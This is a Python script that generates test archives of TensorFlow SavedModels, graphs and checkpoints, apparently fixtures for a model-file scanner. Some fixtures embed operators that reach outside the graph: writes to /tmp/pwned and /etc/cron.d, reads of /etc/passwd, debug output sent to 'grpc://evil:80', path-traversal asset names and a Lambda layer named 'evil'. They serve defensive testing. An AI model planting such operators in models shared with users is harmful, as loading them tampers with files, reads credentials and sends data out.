"""Writes the archives of this folder. Needs nothing but Python."""
import pathlib
import struct
import sys

here = pathlib.Path(sys.argv[1] if len(sys.argv) > 1 else pathlib.Path(__file__).parent)


def archive(name, says, files):
    """Writes a txtar: bytes as hexadecimal."""
    old = here / f"{name}.txtar"
    text = old.read_text() if old.exists() else ""
    want = text[text.index("-- want.json --") :] if "-- want.json --" in text else ""
    want = want.split("\n-- ")[0].strip("\n")
    out = [says] + ([want] if want else [])
    for path, data in files.items():
        if isinstance(data, str):
            out += [f"-- {path} --", data.rstrip("\n")]
            continue
        hexed = data.hex()
        out += [f"-- {path}.hex --"] + [hexed[i : i + 96] for i in range(0, len(hexed), 96)]
    old.write_text("\n".join(out) + "\n")


def varint(n):
    n &= (1 << 64) - 1
    out = b""
    while n > 127:
        out += bytes([n & 127 | 128])
        n >>= 7
    return out + bytes([n])


def f(number, value):
    """A field: a number, a text or the bytes of a message."""
    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    value = value.encode() if isinstance(value, str) else value
    return varint(number << 3 | 2) + varint(len(value)) + value


def shape(*dims):
    return b"".join(f(2, f(1, d)) for d in dims)


def attr(key, value):
    return f(5, f(1, key) + f(2, value))


def node(name, op, inputs=(), *attrs):
    return f(1, name) + f(2, op) + b"".join(f(3, i) for i in inputs) + b"".join(attrs)


def const(name, dtype, dims, **more):
    content = f(1, dtype) + f(2, shape(*dims))
    content += f(4, more["raw"]) if "raw" in more else b""
    content += b"".join(f(8, s) for s in more.get("texts", ()))
    return node(name, "Const", (), attr("dtype", f(6, dtype)), attr("value", f(8, content)))


def function(name, nodes):
    return f(1, f(1, f(1, name)) + b"".join(f(3, n) for n in nodes))


def info(name, dtype, dims):
    return f(1, name) + f(2, f(1, name + ":0") + f(2, dtype) + f(3, shape(*dims)))


def saved(nodes, functions=(), assets=(), saver=b"", objects=b"", version="2.15.0"):
    meta = f(1, f(4, "serve") + f(5, version) + f(6, "v2.15.0-rc1-8-g6887368d6d4"))
    meta += f(2, b"".join(f(1, n) for n in nodes) + f(2, b"".join(functions)) + f(4, f(1, 1645)))
    meta += f(3, saver) if saver else b""
    meta += f(5, f(1, "serving_default") + f(2, f(1, info("x", 1, [-1, 4])) + f(2, info("y", 1, [-1, 3])) + f(3, "tensorflow/serving/predict")))
    meta += b"".join(f(6, f(2, a)) for a in assets)
    meta += f(7, objects) if objects else b""
    return f(1, 1) + f(2, meta)


def crc32c(data):
    crc = 0xFFFFFFFF
    for b in data:
        crc ^= b
        for _ in range(8):
            crc = crc >> 1 ^ (0x82F63B78 & -(crc & 1))
    return crc ^ 0xFFFFFFFF


def block(records):
    body, last = b"", b""
    for key, value in records:
        shared = 0
        while shared < min(len(key), len(last)) and key[shared] == last[shared]:
            shared += 1
        body += varint(shared) + varint(len(key) - shared) + varint(len(value)) + key[shared:] + value
        last = key
    body += struct.pack("<II", 0, 1)
    crc = crc32c(body + b"\0")
    masked = ((crc >> 15 | crc << 17) + 0xA282EAD8) & 0xFFFFFFFF
    return body, body + b"\0" + struct.pack("<I", masked)


def table(records):
    body, data = block(sorted(records))
    metabody, meta = block([])
    index, tail = block([(b"z", varint(0) + varint(len(body)))])
    at = len(data)
    footer = varint(at) + varint(len(metabody)) + varint(at + len(meta)) + varint(len(index))
    return data + meta + tail + footer.ljust(40, b"\0") + struct.pack("<Q", 0xDB4775248B80FB57)


def entry(dtype, dims, at, size, shard=0, more=b""):
    return f(1, dtype) + f(2, shape(*dims)) + (f(3, shard) if shard else b"") + (f(4, at) if at else b"") + f(5, size) + varint(6 << 3 | 5) + b"\0\0\0\0" + more


header = (b"", f(1, 1) + f(3, f(1, 1)))
variables = table([header, (b"_CHECKPOINTABLE_OBJECT_GRAPH", entry(7, [], 52, 9)), (b"dense/kernel/.ATTRIBUTES/VARIABLE_VALUE", entry(1, [4, 3], 0, 48)),
                   (b"dense/kernel/.OPTIMIZER_SLOT/opt/m/.ATTRIBUTES/VARIABLE_VALUE", entry(14, [2], 48, 4))])

call = lambda name, of: node(name, "StatefulPartitionedCall", ("saver_filename",), attr("f", f(10, f(1, of))))
save = function("__inference__traced_save_1", [node("SaveV2", "SaveV2", ("prefix",)), node("Merge", "MergeV2Checkpoints"), node("s", "ShardedFilename")])
restore = function("__inference__traced_restore_2", [node("RestoreV2", "RestoreV2")])
plain = [node("x", "Placeholder"), const("w", 1, [4], raw=bytes(16)), node("saver_filename", "Placeholder"), call("Call_1", "__inference__traced_save_1"), call("Call_2", "__inference__traced_restore_2"),
         node("Assert", "Assert"), node("print", "PrintV2", (), attr("output_stream", f(2, "stderr")))]
saver = f(1, "saver_filename:0") + f(2, "Call_1:0") + f(3, "Call_2") + f(7, 2)
lambdas = '{"class_name": "Functional", "keras_version": "2.15.0", "config": {"layers": [{"class_name": "Lambda", "config": {"name": "evil", "function": {"class_name": "__tuple__", "items": ["4wEAAAA=", null, null]}, "function_type": "lambda"}}, {"class_name": "Dense", "config": {"name": "d"}}]}}'
objects = f(1, f(7, f(1, 1))) + f(1, f(4, f(1, "_tf_keras_layer")))
archive("saved", "A SavedModel: variables, assets, fingerprint, the metadata of Keras with a Lambda.", {
    "m/saved_model.pb": saved(plain, [save, restore], ["vocab.txt"], saver, objects),
    "m/variables/variables.index": variables, "m/variables/variables.data-00000-of-00001": bytes(61), "m/assets/vocab.txt": "a\nb\n",
    "m/fingerprint.pb": f(1, 15012345678901234567) + f(2, 77) + f(6, f(1, 4)) + f(7, "0b8c3c2e"),
    "m/keras_metadata.pb": f(1, f(2, 1) + f(3, "root") + f(4, "_tf_keras_network") + f(5, lambdas))})

bad = [const("path", 7, [], texts=["/tmp/pwned"]), node("w", "WriteFile", ("path", "x")), node("r", "ReadFile", ("path:0",)), node("m", "MatchingFiles"),
       node("p", "PrintV2", ("x",), attr("output_stream", f(2, "file:///tmp/pwned"))), node("py", "EagerPyFunc"), node("d", "DebugIdentityV3", (), attr("debug_urls", f(1, f(2, "grpc://evil:80")))),
       node("s", "SaveV2", ("path",)), node("c", "CacheDatasetV2", ("in", "path")), node("cm", "CacheDatasetV2", ("in", "none")), const("none", 7, [], texts=[""]),
       node("proto", "DecodeProtoV2", (), attr("descriptor_source", f(2, "/etc/passwd"))), node("wr", "WholeFileReaderV2"), node("ds", "RegisterDatasetV2"), node("mine", "MyOwnOp"), node("a", "Addons>Thing")]
inner = function("__inference_f_1", [const("p", 7, [], texts=["/etc/cron.d/x"]), node("w", "WriteFile", ("p:output:0", "x")), node("s", "SaveV2", ("p:output:0",))])
archive("reaching", "Operators that reach out of the graph, in the graph and in a function; those of the saver are no such.", {
    "m/saved_model.pb": saved(plain + bad, [save, restore, inner], ["../../etc/cron.d/x", "/abs", "gone.txt"], saver),
    "n/saved_model.pb": saved([node("Call_1", "SaveV2", ("path",)), node("inner", "PartitionedCall", (), attr("f", f(10, f(1, "evil"))))], [function("evil", [node("s", "SaveV2")])], (), f(2, "Call_1:0"))})

graph = b"".join(f(1, n) for n in [node("x", "Placeholder"), const("w", 1, [2, 3], raw=bytes(24)), const("h", 19, [2], raw=bytes(4)), const("n", 3, []), const("save/Const", 7, [], texts=["model"]),
                                   node("save/SaveV2", "SaveV2", ("save/Const",)), node("y", "MatMul", ("x", "w"))])
broken = b"".join(f(1, n) for n in [const("w", 1, [2, 3], raw=bytes(20)), const("n", 1, [-4]), const("big", 1, [1 << 62, 9])])
archive("graph", "Graphs with their weights, one with constants that cannot be, one that is cut off, and a training graph.", {
    "frozen.pb": graph, "bad.pb": broken, "cut.pb": graph[:-20], "other.pb": "something else", "m/saved_model.pb": "this is no model",
    "train.meta": saved([node("r", "TFRecordDatasetV2"), node("save/Save", "SaveV2"), node("s2/Save", "SaveV2"), node("w", "WriteFile")], saver=f(2, "save/Save:0"))[2:][3:],
    "graph.meta": "fileFormatVersion: 2\n"})

two = table([(b"", f(1, 2)), (b"a", entry(1, [10, 2], 0, 0, 0, f(7, f(1, b"")))), (b"\0\x01a\0\x01", entry(1, [4, 2], 0, 32)), (b"\0\x01a\0\x02", entry(1, [6, 2], 0, 48, 1)), (b"b", entry(9, [], 32, 8))])
damaged = bytearray(variables)
damaged[20] ^= 1
wrong = table([header, (b"a", entry(1, [3], 0, 8)), (b"b", entry(1, [-3], 8, 8)), (b"c", entry(1, [1], 1 << 62, 1 << 62)), (b"d", entry(1, [1], 0, 4, 9)), (b"e", b"\xff")])
archive("checkpoint", "Checkpoints: one in slices, of which a shard is not there, one too short, damaged ones.", {
    "t/checkpoint": 'model_checkpoint_path: "model.ckpt-7"\nall_model_checkpoint_paths: "/home/somebody/model.ckpt-1"\nall_model_checkpoint_paths: "../../x"\nall_model_checkpoint_paths: "model.ckpt-7"\n',
    "t/model.ckpt-7.index": two, "t/model.ckpt-7.data-00000-of-00002": bytes(40), "u/ckpt.index": variables, "u/ckpt.data-00000-of-00001": bytes(9), "d/ckpt.index": bytes(damaged),
    "w/ckpt.index": wrong, "w/ckpt.data-00000-of-00001": bytes(16), "v/ckpt.index": "cut off", "v/ckpt.data-00000-of-00001": bytes(4), "faiss.index": "IxF2 something", "bin/checkpoint": "xyz\n",
    "p/ckpt.index": "version https://git-lfs.github.com/spec/v1\noid sha256:" + "1" * 64 + "\nsize 1234\n",
    "p/ckpt.data-00000-of-00001": "version https://git-lfs.github.com/spec/v1\noid sha256:" + "2" * 64 + "\nsize 99999\n"})

archive("text", "A SavedModel in the text form.", {"m/saved_model.pbtxt": """# a comment
saved_model_schema_version: 1
meta_graphs {
  meta_info_def { tags: "serve" tensorflow_version: "2.4.1" stripped_op_list { op { name: "Const" } } }
  graph_def {
    node { name: "path" op: "Const" attr { key: "value" value { tensor { dtype: DT_STRING tensor_shape { } string_val: "/etc/\\160asswd" } } } }
    node { name: "w" op: "Const" attr { key: "value" value { tensor { dtype: DT_FLOAT tensor_shape { dim { size: 2 } dim { size: 2 } } tensor_content: "\\000\\000\\200?\\000\\000\\000\\000\\000\\000\\000\\000\\000\\000\\000\\000" } } } }
    node { name: "read" op: "ReadFile" input: "path" }
    library { function { signature { name: "f" input_arg { name: "x" type: DT_FLOAT } } node_def { name: "id" op: "Identity" input: "x" } } }
    versions { producer: 561 }
  }
  signature_def { key: "predict" value { inputs { key: "x" value { name: "x:0" dtype: DT_FLOAT tensor_shape { dim { size: -1 } dim { size: 4 } } } } outputs { key: "y" value { name: "y:0" dtype: DT_INT64 tensor_shape { unknown_rank: true } } } } }
  signature_def { key: "other" value { inputs { key: "s" value { dtype: DT_STRING tensor_shape { } } } } }
}
""", "n/saved_model.pbtxt": "meta_graphs { meta_info_def { tags: \"serve\" } graph_def { node { name: \"a\" op: \"NoOp\"\n"})
